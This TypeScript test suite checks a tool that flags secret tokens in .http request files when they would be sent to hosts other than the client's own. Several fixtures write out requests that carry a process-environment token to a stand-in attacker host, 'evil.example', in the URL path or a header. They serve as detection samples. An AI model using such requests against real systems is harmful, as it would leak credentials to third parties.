import assert from 'node:assert/strict';
import { FileObjections, type Owner } from '../../src/core/fileObjections';
import { type Environment, emptyEnvironment } from '../../src/core/httpFile/environment';
import { parseHttpFile } from '../../src/core/httpFile/parse';
import type { HttpFile } from '../../src/core/httpFile/types';
import { updateHttpFile } from '../../src/core/httpFile/update';
import { type BlockUses, uses, usesByBlock } from '../../src/core/httpFile/uses';
import { gobiz } from '../../src/core/providers/gobiz';
import { type Objection, objections } from '../../src/core/publisher';
import { makeClient } from './makeClient';
import { mulberry32, randomHttpText } from './randomHttpText';

const owner: Owner = { client: makeClient(), provider: gobiz };
const names = ['GOBIZ_OUTLET_TOKEN', 'GOBIZ_X_CLIENT_ID', 'DOKU_A_B_SIGNATURE'];
const ownerOf = (name: string): Owner | undefined => (names.includes(name) ? owner : undefined);

const environments: readonly Environment[] = [
  emptyEnvironment,
  {
    variables: {
      $shared: { h: 'h.example', x: 'GOBIZ_OUTLET_TOKEN' },
      other: { h: 'https://api.partner-sandbox.gobiz.co.id/', t: '{{$processEnv GOBIZ_OUTLET_TOKEN}}' },
    },
    dotenv: { '.env': 'A=https://a.example' },
  },
];

/** What is objected to, in an order of its own: by block, direct uses and those through variables are mixed. */
function sorted(list: readonly Objection[], file: HttpFile): readonly string[] {
  return list
    .map(({ use, kind, reason, host }) => {
      const request = use.place.kind === 'request' ? file.requests.indexOf(use.place.request) : undefined;
      assert.notEqual(request, -1, 'a request of the file');
      return JSON.stringify([use.range.start, use.range.end, request, kind, reason, host]);
    })
    .sort();
}

interface Followed {
  readonly file: HttpFile;
  readonly uses: BlockUses;
  readonly found: FileObjections;
}

function follow(file: HttpFile, environment: Environment, previous?: Followed): Followed {
  const found = usesByBlock(file, environment, previous?.uses);
  return { file, uses: found, found: new FileObjections(found, ownerOf, previous?.found) };
}

function check({ file, found }: Followed, environment: Environment): void {
  const whole = uses(parseHttpFile(file.text), environment);
  const own = uses(file, environment);
  assert.deepEqual(own, whole);
  for (const name of names) {
    const expected = sorted(objections(name, owner.client, owner.provider, own), file);
    assert.deepEqual(sorted(found.of(name), file), expected, JSON.stringify(file.text));
    assert.equal(found.has(name), expected.length > 0);
  }
}

describe('what is worked out block by block', () => {
  for (const [index, environment] of environments.entries()) {
    it(`is what a fresh read finds, over random edits with environment ${index}`, function () {
      this.timeout(60_000);
      const next = mulberry32(11 + index);
      let text = '';
      let followed = follow(parseHttpFile(text), environment);
      for (let round = 0; round < 3000; round += 1) {
        const start = Math.floor(next() * (text.length + 1));
        const end = Math.min(text.length, start + Math.floor(next() * (text.length > 1500 ? 300 : 12)));
        text = text.slice(0, start) + randomHttpText(next, 4) + text.slice(end);
        followed = follow(updateHttpFile(followed.file, text), environment, followed);
        check(followed, environment);
      }
    });
  }

  const token = '{{$processEnv GOBIZ_OUTLET_TOKEN}}';
  const own = 'https://api.partner-sandbox.gobiz.co.id';
  const request = `GET {{h}}/\nA: ${token}\n`;
  const edits: readonly [what: string, before: string, after: string, isObjected: boolean][] = [
    [
      'a host in a far block',
      `@h = ${own}\n###\n${request}`,
      `@h = https://evil.example\n###\n${request}`,
      true,
    ],
    [
      'back to a host of the client',
      `@h = https://e.example\n###\n${request}`,
      `@h = ${own}\n###\n${request}`,
      false,
    ],
    [
      'a prompt for the host',
      `###\n@h = ${own}\n###\n${request}`,
      `###\n@h = ${own}\n# @prompt h\n###\n${request}`,
      true,
    ],
    [
      'a variable that begins to carry the token',
      `@t = x\n###\nGET https://evil.example/{{t}}\n`,
      `@t = ${token}\n###\nGET https://evil.example/{{t}}\n`,
      true,
    ],
    [
      'a separator that goes, so that a script can reach',
      `GET ${own}/\nA: ${token}\n###\n`,
      `GET ${own}/\nA: ${token}\n> {% $env["x"] %}\n`,
      true,
    ],
  ];
  for (const [what, before, after, isObjected] of edits) {
    it(`sees ${what}`, () => {
      const first = follow(parseHttpFile(before), emptyEnvironment);
      const second = follow(updateHttpFile(first.file, after), emptyEnvironment, first);
      check(second, emptyEnvironment);
      assert.equal(second.found.has('GOBIZ_OUTLET_TOKEN'), isObjected);
    });
  }

  it('is kept where nothing changed', () => {
    const block = `### a\nGET https://a.example\nA: ${token}\n`;
    const first = follow(parseHttpFile(block.repeat(3)), emptyEnvironment);
    const changed = first.file.text.replace('a.example\nA', 'b.example\nA');
    const second = follow(updateHttpFile(first.file, changed), emptyEnvironment, first);
    assert.notEqual(second.uses.blocks[0], first.uses.blocks[0]);
    assert.equal(second.uses.blocks[1], first.uses.blocks[1]);
    assert.equal(second.file.blocks[2], first.file.blocks[2]);
  });

  it('is limited for the whole file, however many blocks there are', () => {
    const carried = Array.from({ length: 500 }, (_, index) => `{{$processEnv GOBIZ_C${index}_TOKEN}}`).join(
      '',
    );
    const text = `@t = ${carried}\n${'###\nGET https://a.example/{{t}}{{t}}\n'.repeat(1000)}`;
    const first = follow(parseHttpFile(text), emptyEnvironment);
    assert.ok(first.uses.blocks.reduce((sum, { count }) => sum + count, 0) < 250_000);
    assert.ok(first.found.has('GOBIZ_OUTLET_TOKEN'));
    const second = follow(updateHttpFile(first.file, text.slice(0, 20_000)), emptyEnvironment, first);
    assert.ok(!second.found.has('GOBIZ_OUTLET_TOKEN'));
  });
});
